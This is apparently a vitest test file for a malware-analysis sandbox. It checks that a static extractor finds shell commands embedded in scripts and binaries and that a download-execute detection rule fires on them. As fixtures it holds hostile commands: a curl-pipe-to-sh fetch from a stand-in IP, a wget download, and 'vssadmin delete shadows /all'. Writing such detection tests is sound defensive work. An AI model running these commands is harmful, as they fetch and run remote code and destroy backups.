import { readFile } from 'node:fs/promises';
import fc from 'fast-check';
import { afterAll, describe, expect, test } from 'vitest';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { identify } from '../sandbox-runner/identify.ts';
import { signalsOf } from '../sandbox-runner/signals.ts';
import { quotedCommands } from '../sandbox-runner/static/quoted-commands.ts';

const engine = await loadEngine();
afterAll(async () => await engine.close());

const commandsOf = async (text: string, name: string) => {
  const bytes = Buffer.from(text);
  return quotedCommands(await identify(bytes, name), bytes)?.commands;
};

describe('a command that a program holds for a shell', () => {
  test.each([
    ['setup.py', "import os\nos.system('curl -s http://203.0.113.7/a.sh | sh')\n", 'curl -s http://203.0.113.7/a.sh | sh'],
    ['i.js', 'const c = require("child_process");\nc.exec("wget -q http://203.0.113.7/\\"a\\"");\n', 'wget -q http://203.0.113.7/"a"'],
    ['a.vbs', 'CreateObject("WScript.Shell").Run "cmd.exe /c vssadmin delete shadows /all"\r\n', 'cmd.exe /c vssadmin delete shadows /all'],
    ['a.pl', '#!/usr/bin/perl\nsystem("chmod +x /tmp/.a");\n', 'chmod +x /tmp/.a'],
  ])('is read out of %s', async (name, text, command) => {
    expect(await commandsOf(text, name)).toEqual([command]);
  });
  test('is read out of a Linux program, and rules apply to it', async () => {
    const bytes = Buffer.concat([await readFile('/bin/true'), Buffer.from('\0curl -s http://203.0.113.7/a.sh | sh\0')]);
    const { commands, shell } = quotedCommands(await identify(bytes, 'tool'), bytes)!;
    expect([commands, shell]).toEqual([['curl -s http://203.0.113.7/a.sh | sh'], 'sh']);
    const written = [{ product: 'linux' as const, where: '', notes: [], commands }];
    expect(signalsOf(engine.sigma, { found: [], written, runs: [] }, []).map(({ rule, weight }) => [rule, weight])).toContainEqual(['assay-linux-download-execute', 25]);
  });
  test.each([['a.py', 'print("sh is a shell, curl a program")\nx = "chmod"\n'], ['readme.txt', 'run "curl http://x/ | sh"']])('is not what is said in words: %s', async (name, text) => {
    expect((await commandsOf(text, name)) ?? []).toEqual([]);
  });
  test('of any bytes is one of so many, of so many characters', () => {
    fc.assert(fc.property(fc.uint8Array({ maxLength: 3_000 }), fc.constantFrom('"curl ', "'sh -c ", '"', '\\"', "'a'"), fc.nat(400), (bytes, piece, times) => {
      const all = Buffer.concat([Buffer.from(piece.repeat(times)), bytes]);
      for (const kind of ['elf', 'pe'] as const) {
        const found = quotedCommands({ kind, format: kind, mediaType: '', category: 'EXECUTABLE' }, all)!;
        expect(found.commands.length).toBeLessThanOrEqual(200);
        expect(Math.max(0, ...found.commands.map((command) => command.length))).toBeLessThanOrEqual(500);
      }
    }));
  });
});
